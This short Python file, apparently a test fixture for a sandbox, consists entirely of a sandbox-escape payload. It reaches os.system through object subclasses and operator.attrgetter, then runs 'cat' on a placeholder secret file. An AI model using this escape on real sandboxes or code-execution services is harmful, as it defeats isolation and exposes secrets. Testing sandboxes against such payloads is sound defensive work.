# An object whose __class__ is looked up by operator.attrgetter.
# effect: run
import operator
root = operator.attrgetter("__class__.__base__")(())
kinds = operator.methodcaller("__subclasses__")(root)
[k for k in kinds if k.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("cat @SECRET@")
